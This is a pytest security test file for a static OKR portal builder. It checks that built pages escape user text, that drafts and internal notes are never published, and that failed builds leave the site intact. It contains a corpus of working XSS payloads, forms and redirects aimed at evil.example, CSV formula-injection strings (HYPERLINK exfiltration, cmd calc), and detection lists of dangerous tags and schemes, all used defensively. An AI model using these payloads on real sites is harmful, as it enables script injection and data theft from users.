"""What a real site build publishes: nothing executable from the portal's texts,
nothing from drafts or internal notes, and never a half-written site.

Every test here runs the real command (``okr-portal build``, so the real
``mkdocs build``) and then reads every file under site/.
"""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from fixtures import SHORTER_WAITS

AS_OF = "2026-11-24"
BASE_URL = "https://okrs.example.org/"

# --- the injection corpus ------------------------------------------------------------
#
# "@M@" stands for a marker that is unique per payload and per field (XSS07OT is
# payload 7 in an objective title). Every payload starts with harmless words that
# must stay visible, and carries the marker inside its dangerous part too, so a
# marker found in a script, an event handler or a style names what got through.

PAYLOADS: list[str] = [
    """Plain @M@ <script>alert("@M@")</script>""",
    """Image @M@ <img src=x onerror=alert("@M@")>""",
    """Svg @M@ <svg onload=alert("@M@")><circle r="5"></circle></svg> <svg/onload=alert("@M@")>""",
    """Anchor @M@ <a href="javascript:alert('@M@')">click @M@</a>""",
    """Mdlink @M@ [click](javascript:alert('@M@'))""",
    """Mdcase @M@ [click](JaVaScRiPt:alert('@M@'))""",
    """Dataurl @M@ [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)""",
    """Frame @M@ <iframe src="https://evil.example/@M@" srcdoc="<script>alert('@M@')</script>"></iframe>""",
    """Objecttag @M@ <object data="https://evil.example/@M@.swf"></object>""",
    """Embedtag @M@ <embed src="https://evil.example/@M@.swf">""",
    """Styletag @M@ <style>body{display:none} /* @M@ */</style>""",
    """Divstyle @M@ <div style="background:url(javascript:alert('@M@'))">boxed</div>""",
    """Fixed @M@ <p style="position:fixed;top:0;left:0">overlay @M@</p>""",
    """Formtag @M@ <form action="https://evil.example/@M@"><input name="pw" value="@M@">"""
    """<button formaction="javascript:alert('@M@')">go</button></form>""",
    """Refresh @M@ <meta http-equiv="refresh" content="0;url=https://evil.example/@M@">""",
    """Basetag @M@ <base href="https://evil.example/@M@/">""",
    """Linktag @M@ <link rel="stylesheet" href="https://evil.example/@M@.css">""",
    """Dquote @M@ "><script>alert("@M@")</script>""",
    """Squote @M@ '><script>alert('@M@')</script>""",
    """Titleclose @M@ </title><script>alert("@M@")</script>""",
    """Attrhash @M@ {#x onclick=alert("@M@")}""",
    """Attrcolon @M@ {: onclick="alert('@M@')" }""",
    """# <script>alert("@M@")</script> Heading @M@""",
    """Comment @M@ <!-- hidden @M@ --><!--><img src=x onerror=alert("@M@")>-->""",
    """Escaped @M@ &lt;script&gt;alert("@M@")&lt;/script&gt; &lt;img src=x onerror=alert("@M@")&gt;""",
    """Entity @M@ <a href="&#106;avascript:alert('@M@')">e1</a> [e2](&#106;avascript:alert('@M@'))"""
    """ <a href="&#x6A;&#x61;vascript&colon;alert('@M@')">e3</a>""",
    """Spaced @M@ <a href=" &#x09;java&#x0A;script:alert('@M@')">s1</a> [s2]( javascript:alert('@M@'))""",
    """Vbs @M@ [v1](vbscript:msgbox("@M@")) <a href="vbscript:msgbox('@M@')">v2</a>""",
    """Unicode @M@ \u2028 line\u2029para \u202egnp.exe <script>alert("@M@")</script> \u200b""",
    """Long @M@ """ + "lorem ipsum " * 1200 + """<script>alert("@M@")</script>""",
    """Yaml @M@ "quoted": 'single' key: value\n---\ntitle: "@M@ injected"\nhide: [navigation]\n---\n"""
    """{"title": "@M@ json"}\n\n<script>alert("@M@")</script>""",
    """Jinja @M@ [{{ 7*7 }}] {% raw %}{{ 8+8 }}{% endraw %} {# c #} {%# d #%} {{ config }}""",
    """Textarea @M@ </textarea><script>alert("@M@")</script>""",
    """Noscript @M@ <noscript><p title="</noscript><img src=x onerror=alert('@M@')>"></noscript>""",
    """Xlink @M@ <svg><a xlink:href="javascript:alert('@M@')"><text>x</text></a></svg>""",
    """Details @M@ <details open ontoggle=alert("@M@")><summary>s</summary></details>""",
    """Mdimage @M@ ![pic](x" onerror="alert('@M@'))""",
    """Mdtitle @M@ [t](https://example.org/ "a\\" onmouseover=\\"alert('@M@')")""",
    """Reflink @M@ [r1][evil]\n\n[evil]: javascript:alert('@M@')""",
    """Autolink @M@ <javascript:alert('@M@')>""",
    """Codespan @M@ `<script>alert("@M@")</script>`""",
    # last: unbalanced on purpose, so in the fields that hold every payload it swallows nothing after it
    """Mathml @M@ <math><mtext><table><mglyph><style><img src=x onerror=alert('@M@')></style>""",
]

MARKER_RE = re.compile(r"XSS\d\d[A-Z]{2}")


def marker(i: int, field: str) -> str:
    return f"XSS{i:02d}{field}"


def payload(i: int, field: str) -> str:
    return PAYLOADS[i].replace("@M@", marker(i, field))


def harmless_word(i: int) -> str:
    """The words a payload starts with, which must be shown as text."""
    first = PAYLOADS[i].split("@M@")[0].strip()
    return first.split()[-1]


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are YAML; \\u escapes keep U+2028 literal)."""
    return json.dumps(text, ensure_ascii=True)


# Fields: two-letter code -> where it lives.
PORTAL_FIELDS = {"PO": "organization", "PD": "description", "PC": "contact"}
PERIOD_TITLE = "PT"
OBJECTIVE_FIELDS = {"OT": "title", "OW": "owner", "OD": "description"}
KR_TITLE, CHECK_IN = "KT", "CI"
METRIC_FIELDS = {"MT": "title", "MU": "unit", "MS": "source", "MM": "methodology"}
CSV_NOTE = "CN"
SITE_TITLE = "ST"
ALL_FIELDS = [*PORTAL_FIELDS, PERIOD_TITLE, *OBJECTIVE_FIELDS, KR_TITLE, CHECK_IN, *METRIC_FIELDS, CSV_NOTE]


def corpus_portal(site_title: str = "Safety test portal") -> dict[str, bytes]:
    """One portal holding every payload in every text field.

    The portal-wide fields hold all payloads, one after the other; every payload
    also gets its own period, objective, key result, check-in, metric and CSV note.
    """
    n = len(PAYLOADS)
    lines = [
        "schema: 1",
        f"title: {q(site_title)}",
        "languages: [en, zh-TW]",
        f"base_url: {BASE_URL}",
    ]
    for code, key in PORTAL_FIELDS.items():
        joiner = " " if key == "organization" else "\n\n"
        lines.append(f"{key}: {q(joiner.join(payload(i, code) for i in range(n)))}")
    lines.append("periods:")
    for i in range(n):
        lines.append(f"  - {{id: p{i:02d}, title: {q(payload(i, PERIOD_TITLE))}, start: 2026-01-01, end: 2026-12-31}}")
    files = {"okrs/portal.yml": ("\n".join(lines) + "\n").encode()}
    for i in range(n):
        objective = [
            f"id: o{i:02d}",
            f"period: p{i:02d}",
            *(f"{key}: {q(payload(i, code))}" for code, key in OBJECTIVE_FIELDS.items()),
            f"tags: [t{i:02d}]",
            "key_results:",
            f"  - id: kr{i:02d}",
            f"    title: {q(payload(i, KR_TITLE))}",
            f"    metric: m{i:02d}",
            "    baseline: {date: 2026-01-01, value: 30}",
            "    target: {value: 20}",
            "    updates:",
            f"      - {{date: 2026-03-01, confidence: at_risk, text: {q(payload(i, CHECK_IN))}}}",
        ]
        files[f"okrs/objectives/o{i:02d}.yml"] = ("\n".join(objective) + "\n").encode()
        metric = ["decimals: 1", "frequency: monthly",
                  *(f"{key}: {q(payload(i, code))}" for code, key in METRIC_FIELDS.items())]
        files[f"okrs/metrics/m{i:02d}.yml"] = ("\n".join(metric) + "\n").encode()
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["date", "value", "note"])
        writer.writerow(["2026-01-01", "30", payload(i, CSV_NOTE).replace("\n", " ")])
        writer.writerow(["2026-06-01", "26", ""])
        files[f"okrs/metrics/m{i:02d}.csv"] = out.getvalue().encode()
    return files


# --- reading a built site ------------------------------------------------------------

URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite",
             "srcset", "ping", "codebase", "longdesc", "manifest", "icon", "values", "to", "from", "by"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "textarea",
                  "noscript", "math", "template", "portal", "isindex", "marquee", "mglyph", "animate", "set"}
MATERIAL_FORMS = {"md-header__option", "md-search__form"}


def normalized_url(value: str) -> str:
    """A URL as a browser reads its scheme: entities decoded, whitespace and controls dropped."""
    value = html.unescape(html.unescape(value))
    return re.sub(r"[\x00-\x20\x7f-\x9f\u200b\u2028\u2029\ufeff]", "", value).lower()


class PageAudit(HTMLParser):
    """Everything executable or page-altering found in one HTML document."""

    def __init__(self, name: str):
        super().__init__(convert_charrefs=True)
        self.name = name
        self.problems: list[str] = []
        self.text: list[str] = []
        self.titles: list[str] = []
        self.stylesheets: list[str] = []
        self._stack: list[str] = []

    def _problem(self, what: str) -> None:
        self.problems.append(f"{self.name}: {what}")

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)
        self._stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_endtag(self, tag):
        if tag in self._stack:
            while self._stack and self._stack.pop() != tag:
                pass

    def _check(self, tag, attrs):
        values = dict(attrs)
        shown = " ".join(f"{k}={v!r}" for k, v in attrs)[:200]
        if tag in FORBIDDEN_TAGS:
            self._problem(f"<{tag} {shown}>")
        if tag == "meta" and "http-equiv" in values:
            self._problem(f"<meta {shown}>")
        if tag == "form" and (values.get("class") not in MATERIAL_FORMS or "action" in values):
            self._problem(f"<form {shown}>")
        if tag in ("input", "button", "select") and "md-" not in (values.get("class") or ""):
            self._problem(f"<{tag} {shown}> is not one of Material's controls")
        if tag == "link":
            href = values.get("href") or ""
            foreign = ("://" in href or href.startswith("//")) and not href.startswith(BASE_URL)
            if foreign or MARKER_RE.search(href):
                self._problem(f"<link {shown}> points elsewhere")
            if values.get("rel") == "stylesheet":
                self.stylesheets.append(href)
        if tag == "script":
            src = values.get("src")
            if src is not None and ("assets/javascripts/" not in src or ":" in src or src.startswith("//")):
                self._problem(f"<script {shown}> loads a foreign script")
            if values.get("type") not in (None, "application/json", "text/javascript", "module"):
                self._problem(f"<script {shown}> has an unexpected type")
        for key, value in attrs:
            value = value or ""
            if key.startswith("on"):
                self._problem(f"<{tag}> has an event handler {key}={value!r}")
            if key == "srcdoc":
                self._problem(f"<{tag}> has srcdoc={value!r}")
            if key == "style" and (MARKER_RE.search(value) or re.search(r"url\(|expression|javascript|position",
                                                                         value, re.I)):
                self._problem(f"<{tag}> has style={value!r}")
            if key in URL_ATTRS or key.endswith(":href"):
                url = normalized_url(value)
                if url.startswith(BAD_SCHEMES):
                    self._problem(f"<{tag}> {key}={value!r} uses a dangerous scheme")
                if tag != "a" and ("evil.example" in url or MARKER_RE.search(value)):
                    self._problem(f"<{tag}> {key}={value!r} loads content from the portal's text")

    def handle_data(self, data):
        current = self._stack[-1] if self._stack else ""
        if current == "script":
            if MARKER_RE.search(data) or "alert(" in data:
                self._problem(f"<script> contains injected code: {data[:200]!r}")
            return
        if current == "style":
            return
        if current == "title":
            self.titles.append(data)
        self.text.append(data)

    @property
    def visible_text(self) -> str:
        return " ".join(" ".join(self.text).split())


def audit_html(name: str, source: str) -> PageAudit:
    audit = PageAudit(name)
    audit.feed(source)
    audit.close()
    return audit


def site_files(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def corpus_site(tmp_path_factory):
    """The corpus portal, built once for the tests that read it."""
    from site_builder.commands.cli import main

    root = tmp_path_factory.mktemp("corpus")
    for rel, data in corpus_portal().items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    code = main(["-C", str(root), "build", "--as-of", AS_OF])
    assert code == 0, "the corpus portal must build"
    return root / "site"


# --- 1. injection corpus -----------------------------------------------------------------


def test_the_corpus_is_large_and_every_field_is_covered():
    assert len(PAYLOADS) >= 25
    markers = {marker(i, f) for i in range(len(PAYLOADS)) for f in ALL_FIELDS}
    assert len(markers) == len(PAYLOADS) * len(ALL_FIELDS)
    assert all(MARKER_RE.fullmatch(m) for m in markers)


def test_no_injected_markup_survives_in_any_html_page(corpus_site):
    files = site_files(corpus_site)
    pages = [name for name in files if name.endswith(".html")]
    assert "index.html" in pages and "404.html" in pages
    assert "objectives/o00/index.html" in pages and "metrics/m00/index.html" in pages
    problems = []
    for name in pages:
        problems += audit_html(name, files[name].decode("utf-8")).problems
    assert not problems, "\n".join(problems[:40])


def test_search_index_is_data_and_its_html_fragments_are_inert(corpus_site):
    # Material's search shows an entry's title and text as HTML: they must be as inert as the pages.
    index = json.loads((corpus_site / "search/search_index.json").read_text(encoding="utf-8"))
    assert index["docs"]
    problems = []
    for doc in index["docs"]:
        for key in ("title", "text"):
            audit = audit_html(f"search_index.json {doc['location']} {key}", doc[key])
            problems += audit.problems
    assert not problems, "\n".join(problems[:40])
    text = " ".join(html.unescape(d["title"] + " " + d["text"]) for d in index["docs"])
    assert marker(0, "OT") in text and marker(5, "KT") in text


def _index(prefix: str) -> int:
    return next(n for n, p in enumerate(PAYLOADS) if p.startswith(prefix))


def _visible(site: Path) -> str:
    return " ".join(audit_html(p.name, p.read_text(encoding="utf-8")).visible_text for p in site.rglob("*.html"))


def test_the_texts_are_shown_escaped_not_dropped(corpus_site):
    """Sanitizing keeps the words: every payload's harmless part is visible text, in every field."""
    visible = _visible(corpus_site)
    missing = [marker(i, f) for i in range(len(PAYLOADS)) for f in ALL_FIELDS if marker(i, f) not in visible]
    assert not missing, f"texts dropped instead of escaped: {missing[:40]}"
    for i in range(len(PAYLOADS)):
        if PAYLOADS[i].startswith("#"):
            continue
        for f in ("OT", "OD", "KT", "CI", "MS", "MU", "CN", "PT"):
            assert f"{harmless_word(i)} {marker(i, f)}" in visible, (i, f)
    # Markup that is not allowed and was written as text is shown as the text it is.
    i = _index("Escaped")
    assert f'&lt;script&gt;alert("{marker(i, "OD")}")' in visible or \
        f'<script>alert("{marker(i, "OD")}")</script>' in visible
    i = _index("Codespan")
    for f in ("OD", "CI", "MM", "PC"):
        assert f'<script>alert("{marker(i, f)}")</script>' in visible, f


def test_jinja_syntax_in_texts_is_never_evaluated(corpus_site):
    i = _index("Jinja")
    blob = b"".join(p.read_bytes() for p in corpus_site.rglob("*") if p.is_file())
    assert b"[49]" not in blob and b"16{% endraw" not in blob and b"{{ 8+8 }}" in blob
    visible = _visible(corpus_site)
    for f in ("OT", "OW", "OD", "KT", "CI", "MT", "MS", "MM", "PT", "PO", "PD", "PC", "CN"):
        assert f"{marker(i, f)} [{{{{ 7*7 }}}}] {{% raw %}}{{{{ 8+8 }}}}{{% endraw %}}" in visible, f


def test_front_matter_cannot_be_broken_out_of(corpus_site):
    titles = []
    for page in corpus_site.rglob("*.html"):
        titles += audit_html(page.name, page.read_text(encoding="utf-8")).titles
    assert titles
    assert not [t for t in titles if re.match(r"\s*XSS\d\d[A-Z]{2} (injected|json)", t)]
    # hide: [navigation] from a text would have removed the tabs from the page it came from
    i = next(n for n, p in enumerate(PAYLOADS) if p.startswith("Yaml"))
    page = (corpus_site / f"objectives/o{i:02d}/index.html").read_text(encoding="utf-8")
    assert page.count('class="md-tabs"') == 1


def test_json_and_csv_downloads_are_data_with_the_texts_as_written(corpus_site):
    api = corpus_site / "api/okrs.json"
    assert api.is_file() and not (corpus_site / "api/okrs.json/index.html").exists()
    doc = json.loads(api.read_text(encoding="utf-8"))
    assert doc["schema"] == 1 and doc["as_of"] == AS_OF
    by_id = {o["id"]: o for o in doc["objectives"]}
    assert len(by_id) == len(PAYLOADS)
    for i in range(len(PAYLOADS)):
        # JSON is data: the exact text, raw, is right there
        assert by_id[f"o{i:02d}"]["title"] == payload(i, "OT")
        assert by_id[f"o{i:02d}"]["owner"] == payload(i, "OW")
        rows = list(csv.DictReader(io.StringIO((corpus_site / f"data/m{i:02d}.csv").read_text(encoding="utf-8"))))
        assert [r["date"] for r in rows] == ["2026-01-01", "2026-06-01"]
        assert rows[0]["note"] == payload(i, CSV_NOTE).replace("\n", " ").strip()
    # no page pretends to be the API, and the data folder holds only the downloads and their index
    data = sorted(p.relative_to(corpus_site).as_posix() for p in (corpus_site / "data").rglob("*") if p.is_file())
    assert data == ["data/index.html", *sorted(f"data/m{i:02d}.csv" for i in range(len(PAYLOADS)))]


FORMULA_NOTES = [  # (as written in the metric's CSV, as the download must hold it)
    ('=HYPERLINK("https://evil.example/?x="&A1,"Click for details")',
     '\'=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'=1+1"),  # the whitespace is stripped when the portal is read: the cell starts with =
    ("  =2+2", "'=2+2"),
    ("\r=3+3", "'=3+3"),
    ("a note with = + - @ inside", "a note with = + - @ inside"),  # only the first character counts
    ("-3.5", "-3.5"),  # purely numeric: a number, not a formula
]


def test_csv_downloads_hold_no_spreadsheet_formulas(portal, cli):
    def field(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    rows = [(f"2026-{n + 1:02d}-01", -3.5 + n, note) for n, (note, _) in enumerate(FORMULA_NOTES)]
    written = "date,value,note\n" + "".join(f"{day},{value},{field(note)}\n" for day, value, note in rows)
    root = portal({"okrs/objectives/a.yml": GOOD_OBJECTIVE, "okrs/metrics/wait.csv": written},
                  portal_yml="schema: 1\ntitle: Test portal\norganization: Org\nperiods:\n"
                             "  - {id: cy2026, title: Calendar year 2026, start: 2026-01-01, end: 2026-12-31}\n")
    run = cli(root, "build", "--as-of", AS_OF)
    assert run.code == 0, run.out + run.err
    with open(root / "site/data/wait.csv", newline="", encoding="utf-8") as f:
        published = list(csv.reader(f))
    assert published[0] == ["date", "value", "note"]
    assert [row[2] for row in published[1:]] == [want for _, want in FORMULA_NOTES]
    # values are numbers, negative ones too, and stay as they are
    assert [row[1] for row in published[1:]] == ["-3.5", "-2.5", "-1.5", "-0.5", "0.5", "1.5", "2.5", "3.5", "4.5"]
    for row in published[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), row
    # the portal's own CSV stays as written
    assert (root / "okrs/metrics/wait.csv").read_bytes() == written.encode("utf-8")


def test_sitemap_holds_only_urls(corpus_site):
    for name in ("sitemap.xml", "sitemap.xml.gz"):
        path = corpus_site / name
        data = gzip.decompress(path.read_bytes()) if name.endswith(".gz") else path.read_bytes()
        assert not MARKER_RE.search(data.decode("utf-8")), name
        root = ET.fromstring(data)
        locs = [el.text for el in root.iter() if el.tag.endswith("loc")]
        assert locs and all(loc.startswith(BASE_URL) for loc in locs)


def test_static_assets_hold_no_portal_text(corpus_site):
    for path in (corpus_site / "assets").rglob("*"):
        if path.is_file():
            assert not MARKER_RE.search(path.read_bytes().decode("utf-8", "replace")), path


def test_tags_are_ids_and_markup_in_them_is_a_validation_error(portal, cli):
    root = portal({
        "okrs/objectives/a.yml": """\
            id: a
            period: cy2026
            title: Tagged
            owner: Someone
            tags: [ok, "<script>alert(1)</script>", "javascript:alert(1)"]
            key_results:
              - {id: m, title: Done, type: milestone, due: 2026-06-30}
            """,
    })
    run = cli(root, "build", "--as-of", AS_OF)
    assert run.code == 1
    out = run.out + run.err
    assert "okrs/objectives/a.yml:5" in out and "Traceback" not in out
    assert not (root / "site").exists()


@pytest.mark.parametrize("title", [
    'Our commitments <img src=x onerror=alert("XSS01ST")>',
    "Our commitments &lt;script&gt;alert('XSS02ST')&lt;/script&gt;",
    'Our "commitments" onmouseover="alert(1)"',
    " ".join(payload(i, SITE_TITLE) for i in range(len(PAYLOADS))),
], ids=["img-onerror", "escaped-script", "quote-breakout", "whole-corpus"])
def test_portal_title_cannot_inject_markup(portal, cli, title):
    root = portal({"okrs/objectives/a.yml": GOOD_OBJECTIVE,
                   "okrs/metrics/wait.csv": "date,value\n2026-01-01,30\n2026-07-02,25\n"},
                  portal_yml=f"schema: 1\ntitle: {q(title)}\norganization: Org\nperiods:\n"
                             "  - {id: cy2026, title: Calendar year 2026, start: 2026-01-01, end: 2026-12-31}\n")
    run = cli(root, "build", "--as-of", AS_OF)
    assert run.code == 0, run.out + run.err
    problems = []
    for page in sorted((root / "site").rglob("*.html")):
        problems += audit_html(page.relative_to(root).as_posix(), page.read_text(encoding="utf-8")).problems
    assert not problems, "\n".join(problems[:20])


def test_the_auditor_finds_what_it_looks_for():
    """The checks above can fail: each of these snippets is caught."""
    bad = [
        '<script>alert("XSS01OT")</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)></svg>',
        '<a href=" JaVa&#x09;Script:alert(1)">x</a>', '<a href="data:text/html;base64,xx">x</a>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<iframe src="https://evil.example/"></iframe>',
        '<object data="x"></object>', '<embed src="x">', '<style>body{}</style>',
        '<div style="background:url(javascript:alert(1))">x</div>', '<p style="position:fixed">x</p>',
        '<form action="https://evil.example/"><input name=pw></form>', '<button formaction="javascript:x">b</button>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">', '<script src="https://evil.example/x.js"></script>',
        '<details open ontoggle=alert(1)></details>', '<iframe srcdoc="x"></iframe>', '<textarea>x</textarea>',
    ]
    for snippet in bad:
        assert audit_html("t", f"<html><body>{snippet}</body></html>").problems, snippet
    good = ('<p>Visible XSS01OT &lt;script&gt;alert("XSS01OT")&lt;/script&gt;</p><a href="https://example.org/">x</a>'
            '<form class="md-search__form"><input class="md-search__input"></form><script src="assets/javascripts/b.js">'
            '</script><link rel="stylesheet" href="../assets/stylesheets/okr-portal.css">')
    audit = audit_html("t", good)
    assert not audit.problems and 'Visible XSS01OT <script>alert("XSS01OT")</script>' in audit.visible_text


# --- 2. drafts and internal notes -------------------------------------------------------

DRAFT_PORTAL = {
    "okrs/objectives/public.yml": """\
        id: public-one
        period: cy2026
        title: PUBLICVISIBLE shorter waits
        owner: Access team
        tags: [access]
        internal_notes: INTERNALSECRET1 the minister asked us to soften this
        key_results:
          - id: wait
            title: PUBLICKR new-patient wait
            metric: shared-wait
            baseline: {date: 2026-01-01, value: 30}
            target: {value: 20}
        """,
    "okrs/objectives/later/draft.yml": """\
        id: draftsecret1
        period: cy2026
        title: DRAFTSECRET2 close the east clinic
        owner: DRAFTSECRET3 board
        description: DRAFTSECRET4 not announced yet
        tags: [draftsecret5]
        visibility: draft
        internal_notes: INTERNALSECRET2 do not publish
        key_results:
          - id: draftsecret6
            title: DRAFTSECRET7 fewer sites
            metric: draftsecret8
            baseline: {date: 2026-01-01, value: 10}
            target: {value: 6}
            updates:
              - {date: 2026-02-01, confidence: on_track, text: DRAFTSECRET9 going to plan}
          - id: shared
            title: DRAFTSECRET10 on the shared metric
            metric: shared-wait
            baseline: {date: 2026-01-01, value: 30}
            target: {value: 25}
        """,
    "okrs/metrics/shared-wait.csv": "date,value,note\n2026-01-01,30,\n2026-06-01,26,public note\n",
    "okrs/metrics/draftsecret8.yml": """\
        title: DRAFTSECRET11 sites open
        source: DRAFTSECRET12 facilities
        methodology: DRAFTSECRET13 count
        """,
    "okrs/metrics/draftsecret8.csv": "date,value,note\n2026-01-01,10,DRAFTSECRET14 note\n2026-06-01,8,\n",
}


def test_drafts_and_internal_notes_are_never_published(portal, cli):
    root = portal(DRAFT_PORTAL)
    run = cli(root, "build", "--as-of", AS_OF)
    assert run.code == 0, run.out + run.err
    site = root / "site"
    files = site_files(site)
    # the public objective is there (so this test can fail)...
    assert "objectives/public-one/index.html" in files
    assert b"PUBLICVISIBLE" in files["objectives/public-one/index.html"]
    assert b"PUBLICVISIBLE" in files["index.html"] and b"PUBLICKR" in files["metrics/shared-wait/index.html"]
    assert "public-one" in json.dumps(json.loads(files["api/okrs.json"]))
    assert {"404.html", "search/search_index.json", "sitemap.xml", "api/okrs.json", "data/shared-wait.csv"} <= set(files)
    # ...and nothing of the draft or of internal notes is, in any file
    leaks = [(name, secret) for name, data in files.items()
             for secret in (b"draftsecret", b"internalsecret") if secret in data.lower()]
    assert not leaks, leaks
    assert not any("draftsecret" in name.lower() for name in files)
    assert not (site / "metrics/draftsecret8").exists() and not (site / "data/draftsecret8.csv").exists()
    assert len(json.loads(files["api/okrs.json"])["objectives"]) == 1


# --- 3. a failing build leaves the previous site intact -----------------------------------

GOOD_OBJECTIVE = SHORTER_WAITS


def _leftovers(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if p.name.startswith(".site"))


def _built_portal(portal, cli) -> tuple[Path, dict[str, bytes]]:
    root = portal({"okrs/objectives/a.yml": GOOD_OBJECTIVE,
                   "okrs/metrics/wait.csv": "date,value\n2026-01-01,30\n2026-07-02,25\n"})
    assert cli(root, "build", "--as-of", AS_OF).code == 0
    before = site_files(root / "site")
    assert "objectives/a/index.html" in before and "data/wait.csv" in before
    return root, before


def _objective_with(old: str, new: str) -> str:
    import textwrap

    text = textwrap.dedent(GOOD_OBJECTIVE)
    assert old in text
    return text.replace(old, new)


@pytest.mark.parametrize("old, new, line, words", [
    ("title: Shorter waits", "title: [Shorter waits", (3, 4), "never closed"),  # not YAML any more
    ("title: Shorter waits", "titel: Shorter waits", (3,), "titel"),  # a typo: unknown key
    ("metric: wait", "metric: wiat", (8,), "wiat"),  # a metric that does not exist
])
def test_a_validation_error_leaves_the_site_as_it_was(portal, cli, old, new, line, words):
    root, before = _built_portal(portal, cli)
    (root / "okrs/objectives/a.yml").write_text(_objective_with(old, new), encoding="utf-8")
    run = cli(root, "build", "--as-of", "2026-12-01")
    assert run.code == 1
    out = run.out + run.err
    found = re.search(r"okrs/objectives/a\.yml:(\d+): (.*)", out)
    assert found and int(found.group(1)) in line and words in found.group(2), out
    assert "Traceback" not in out
    assert site_files(root / "site") == before
    assert _leftovers(root) == []


def _break_engine(root: Path) -> None:
    (root / "mkdocs.yml").write_text("plugins:\n  - search\n  - no-such-plugin-okr\n", encoding="utf-8")


def test_an_engine_failure_leaves_the_site_as_it_was(portal, cli):
    root, before = _built_portal(portal, cli)
    _break_engine(root)
    run = cli(root, "build", "--as-of", "2026-12-01")
    assert run.code == 1
    err = run.out + run.err
    assert "no-such-plugin-okr" in err and "unchanged" in err, err
    lines = [line for line in err.splitlines() if line.strip()]
    assert "Traceback" not in err and len(lines) <= 4 and not any("\x1b[" in line for line in lines), lines
    assert site_files(root / "site") == before
    assert _leftovers(root) == []
    # and the next good build works again
    (root / "mkdocs.yml").unlink()
    assert cli(root, "build", "--as-of", "2026-12-01").code == 0
    assert _leftovers(root) == []


def test_an_unknown_theme_leaves_the_site_as_it_was_or_builds(portal, cli):
    """theme.name is okr-portal's to decide; a bad one in the portal's mkdocs.yml never breaks site/."""
    root, before = _built_portal(portal, cli)
    (root / "mkdocs.yml").write_text("theme: {name: no-such-theme}\n", encoding="utf-8")
    run = cli(root, "build", "--as-of", AS_OF)
    assert "Traceback" not in run.out + run.err
    if run.code == 0:
        assert (root / "site/index.html").is_file()
    else:
        assert run.code == 1 and site_files(root / "site") == before
    assert _leftovers(root) == []


# --- 4. packaged defaults ------------------------------------------------------------------


def test_a_portal_with_only_okrs_builds_with_the_packaged_defaults(portal, cli):
    root = portal({"okrs/objectives/a.yml": GOOD_OBJECTIVE,
                   "okrs/metrics/wait.csv": "date,value\n2026-01-01,30\n2026-07-02,25\n"})
    assert sorted(p.name for p in root.iterdir()) == ["okrs"]
    run = cli(root, "build", "--as-of", AS_OF)
    assert run.code == 0, run.out + run.err
    site = root / "site"
    home = (site / "index.html").read_text(encoding="utf-8")
    audit = audit_html("index.html", home)
    assert "assets/stylesheets/okr-portal.css" in audit.stylesheets
    css = site / "assets/stylesheets/okr-portal.css"
    assert css.is_file() and b".okr-" in css.read_bytes()
    assert '<meta name="generator" content="okr-portal">' in home  # the packaged theme override
    assert "Shorter waits" in audit.visible_text
    page = audit_html("o", (site / "objectives/a/index.html").read_text(encoding="utf-8"))
    assert "../../assets/stylesheets/okr-portal.css" in page.stylesheets
